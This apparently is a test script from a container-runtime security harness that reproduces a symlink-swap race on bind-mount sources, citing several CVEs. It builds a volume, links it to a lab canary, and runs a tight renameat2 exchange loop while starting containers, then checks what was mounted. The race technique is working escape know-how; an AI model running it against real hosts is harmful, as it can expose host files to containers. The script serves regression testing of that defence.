#!/usr/bin/env python3
"""CVE-2017-1002101, CVE-2021-25741, CVE-2024-0132, CVE-2025-23359, CVE-2024-1753: a mount's source was checked as a path, and another inode was mounted.
Invariant: I1, I3
Section: A
"""
import os
import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).parents[1]))
from harness import main


def attack(lab):
    # The source is swapped for a link to the host's tree by its owner, over and over, while containers start.
    base = lab.scratch / "volume"
    (base / "data").mkdir(parents=True)
    (base / "data/mine").write_text("mine\n")
    os.symlink(lab.canary, base / "swap")
    if lab.uid:
        os.chown(base, lab.uid, lab.gid)
    swapper = subprocess.Popen([sys.executable, "-c", SWAP, str(base / "data"), str(base / "swap")])
    try:
        for _ in range(20):
            bundle = lab.bundle().mount("/data", base / "data", "rbind", "rw", "nosuid")
            (bundle.rootfs / "data").mkdir()
            result = lab.run(bundle.shell("cat /data/mine /data/file 2>/dev/null; true"))
            lab.refused_or_ran(result)
            # Under the OCI rules the engine owns the source and may name a link: what is mounted is one of the two, whole.
            lab.check(result.out in ("", "mine\n", "canary\n"), f"a mixture was mounted: {result.out!r}")
    finally:
        swapper.kill()
        swapper.wait()


SWAP = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
while True:
    libc.renameat2(-100, os.fsencode(sys.argv[1]), -100, os.fsencode(sys.argv[2]), 2)
"""


main(attack)
